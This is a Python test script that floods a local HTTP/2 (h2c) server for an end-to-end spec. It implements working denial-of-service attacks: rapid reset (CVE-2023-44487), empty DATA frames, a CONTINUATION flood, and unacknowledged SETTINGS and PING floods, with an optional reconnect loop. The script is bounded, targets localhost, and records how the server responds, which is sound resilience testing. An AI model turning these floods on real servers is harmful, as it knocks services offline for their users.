#!/usr/bin/python3
"""h2_flood.py: one HTTP/2 (h2c) connection that floods the server, for
spec/e2e/h2_flood_spec.lua. Frames are built with Debian's python3-hpack and
python3-hyperframe (run it with /usr/bin/python3).

  h2_flood.py KIND --port P [--duration S] [--max-frames N] [--path PATH]
              [--reconnect]

KIND:
  settings     SETTINGS frames, each wanting an ACK; the ACKs are never read
  ping         PING frames, each wanting an ACK; the ACKs are never read
  rapid-reset  HEADERS (GET PATH) then RST_STREAM (CANCEL) on a new stream,
               again and again (CVE-2023-44487)
  empty        a POST to PATH left open, then DATA frames of no bytes
               without END_STREAM on it (CVE-2019-9518)
  continuation a HEADERS frame without END_HEADERS, then CONTINUATION
               frames of header fields without end (CVE-2024-27316)

Sends as fast as the socket takes them, for --duration seconds (default 4)
or --max-frames frames (default 1000000), whichever comes first, reading
nothing; then reads for at most a second what the server sent (a GOAWAY?).
With --reconnect, a connection the server closed is followed by a new one
(the same flood) until the duration is over, so that the server is flooded
the whole time whatever it does with one connection.
Prints one JSON object: kind, frames (sent, on every connection), bytes,
connections, closed_by_server (connections the server closed or reset),
goaways (error code -> how many), goaway (the last one:
{"error_code", "last_stream_id", "additional_data"} or null), error (the
last send error), elapsed.
"""
import argparse
import json
import os
import select
import socket
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


def flood_once(args, t0, state):
    """One connection's flood. Returns (bytes sent, closed by the server,
    the send error, the GOAWAY seen or None)."""
    sock = socket.create_connection(("127.0.0.1", args.port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    enc = hpack.Encoder()
    state["sid"] = 1

    def headers(stream_id, method, end_stream):
        hf = HeadersFrame(stream_id, data=enc.encode([
            (":method", method), (":scheme", "http"), (":authority", "127.0.0.1:%d" % args.port),
            (":path", args.path)]))
        hf.flags.add("END_HEADERS")
        if end_stream:
            hf.flags.add("END_STREAM")
        return hf.serialize()

    def batch():
        """64 frames' worth of the flood."""
        out = []
        for _ in range(64):
            state["n"] += 1
            n = state["n"]
            if args.kind == "settings":
                out.append(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + n % 2})
                           .serialize())
            elif args.kind == "ping":
                out.append(PingFrame(0, opaque_data=n.to_bytes(8, "big")).serialize())
            elif args.kind == "rapid-reset":
                sid = state["sid"]
                state["sid"] += 2
                out.append(headers(sid, "GET", True))
                out.append(RstStreamFrame(sid, error_code=CANCEL).serialize())
            elif args.kind == "continuation":
                # a literal header field, not indexed: x-pad: 200 bytes
                out.append(ContinuationFrame(1, data=b"\x00\x05x-pad\x7f\x49" + b"a" * 200).serialize())
            else:
                out.append(DataFrame(1, data=b"").serialize())
        return b"".join(out)

    pending = PREFACE + SettingsFrame(0).serialize()
    if args.kind == "empty":
        pending += headers(1, "POST", False)
    elif args.kind == "continuation":
        hf = HeadersFrame(1, data=enc.encode([(":method", "GET"), (":scheme", "http"),
                                              (":authority", "127.0.0.1:%d" % args.port), (":path", args.path)]))
        hf.flags.add("END_STREAM")  # no END_HEADERS: CONTINUATION frames follow
        pending += hf.serialize()
    sent_bytes, server_closed, error = 0, False, None
    sock.setblocking(False)
    while True:
        over = time.monotonic() - t0 > args.duration or state["n"] >= args.max_frames
        if not pending:
            if over:
                break
            pending = batch()
        try:
            k = sock.send(pending)
            sent_bytes += k
            pending = pending[k:]
        except BlockingIOError:
            if over:
                break
            select.select([], [sock], [], 0.05)
        except OSError as e:
            server_closed, error = True, repr(e)
            break

    # What the server said: scan for a GOAWAY for up to a second.
    goaway, buf, got = None, b"", 0
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline and got < (64 << 20):
        r, _, _ = select.select([sock], [], [], 0.1)
        if not r:
            continue
        try:
            data = sock.recv(1 << 20)
        except BlockingIOError:
            continue
        except OSError:
            server_closed = True
            break
        if not data:
            server_closed = True
            break
        got += len(data)
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            if buf[3] == 7:
                body = buf[9:9 + length]
                goaway = {"last_stream_id": int.from_bytes(body[0:4], "big") & 0x7FFFFFFF,
                          "error_code": int.from_bytes(body[4:8], "big"),
                          "additional_data": body[8:].decode("latin-1")}
            buf = buf[9 + length:]
    sock.close()
    return sent_bytes, server_closed, error, goaway


def main():
    p = argparse.ArgumentParser()
    p.add_argument("kind", choices=["settings", "ping", "rapid-reset", "empty", "continuation"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--duration", type=float, default=4)
    p.add_argument("--max-frames", type=int, default=1000000)
    p.add_argument("--path", default="/plain/")
    p.add_argument("--reconnect", action="store_true")
    args = p.parse_args()

    t0 = time.monotonic()
    state = {"n": 0}
    out = {"kind": args.kind, "frames": 0, "bytes": 0, "connections": 0, "closed_by_server": 0,
           "goaways": {}, "goaway": None, "error": None}
    while True:
        sent, closed, error, goaway = flood_once(args, t0, state)
        out["connections"] += 1
        out["bytes"] += sent
        if closed:
            out["closed_by_server"] += 1
            out["error"] = error
        if goaway:
            code = str(goaway["error_code"])
            out["goaways"][code] = out["goaways"].get(code, 0) + 1
            out["goaway"] = goaway
        if not args.reconnect or time.monotonic() - t0 > args.duration or state["n"] >= args.max_frames:
            break
        if out["connections"] >= 10000:  # bounded whatever the server does
            break
    out["frames"] = state["n"]
    out["elapsed"] = round(time.monotonic() - t0, 3)
    sys.stdout.write(json.dumps(out) + "\n")
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
